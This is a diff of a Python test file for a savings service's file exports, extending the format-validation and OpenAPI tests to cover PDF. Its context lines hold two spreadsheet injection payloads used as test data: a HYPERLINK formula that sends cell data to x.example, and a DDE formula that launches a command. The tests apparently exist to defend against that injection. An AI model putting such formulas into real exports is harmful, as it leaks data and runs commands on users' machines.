@@ -30,6 +30,7 @@ from tests.exchange.test_savings_api import JUNE, read, recognised
 
 COUNTERS = ("reminders", "recognised", "refused", "excused", "beyond_duty", "cited", "undone", "unpriced")
 MONEY = ("saved_fen", "reversed_fen", "net_fen")
+FORM = "/v1/savings/forms/{form_name}"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 LINK = '=HYPERLINK("http://x.example/?"&A1,"乙,医院")'
 DDE = "=cmd|' /C calc'!A0"
@@ -166,13 +167,18 @@ def test_json_is_what_is_answered_where_no_file_is_asked_for(busy: Service) -> N
         assert "content-disposition" not in asked.headers
 
 
-@pytest.mark.parametrize("path", ["/v1/savings", "/v1/savings/entries"])
-@pytest.mark.parametrize("form", ["pdf", "CSV", "", "csv,xlsx"])
-def test_a_form_that_is_not_written_is_refused_by_its_field(quiet: Service, path: str, form: str) -> None:
+@pytest.mark.parametrize(
+    ("path", "written"),
+    [("/v1/savings", "'json', 'csv', 'xlsx' or 'pdf'"), ("/v1/savings/entries", "'json', 'csv' or 'xlsx'")],
+)
+@pytest.mark.parametrize("form", ["doc", "CSV", "", "csv,xlsx"])
+def test_a_form_that_is_not_written_is_refused_by_its_field(
+    quiet: Service, path: str, written: str, form: str
+) -> None:
     answer = quiet.call("GET", f"{path}?format={form}", role="regulator")
     assert answer.status_code == 422
     (fault,) = answer.json()["errors"]
-    assert (fault["field"], fault["message"]) == ("format", "Input should be 'json', 'csv' or 'xlsx'")
+    assert (fault["field"], fault["message"]) == ("format", f"Input should be {written}")
 
 
 @FORMS
@@ -318,11 +324,16 @@ def test_a_table_that_would_keep_the_service_busy_is_had_as_csv_only() -> None:
 
 def test_the_description_names_the_files_beside_the_answer(quiet: Service) -> None:
     told = quiet.call("GET", "/openapi.json", role="operator").json()["paths"]
-    for path in ("/v1/savings", "/v1/savings/entries"):
+    for path, more in (("/v1/savings", ["pdf"]), ("/v1/savings/entries", []), (FORM, [])):
         content = told[path]["get"]["responses"]["200"]["content"]
-        assert set(content) == {"application/json", "text/csv", XLSX}
+        assert set(content) == {
+            "application/json",
+            "text/csv",
+            XLSX,
+            *(f"application/{each}" for each in more),
+        }
         (form,) = [each for each in told[path]["get"]["parameters"] if each["name"] == "format"]
-        assert (form["required"], form["schema"]["enum"]) == (False, ["json", "csv", "xlsx"])
+        assert (form["required"], form["schema"]["enum"]) == (False, ["json", "csv", "xlsx", *more])
 
 
 def test_libreoffice_opens_both_files_with_the_totals_of_the_report(
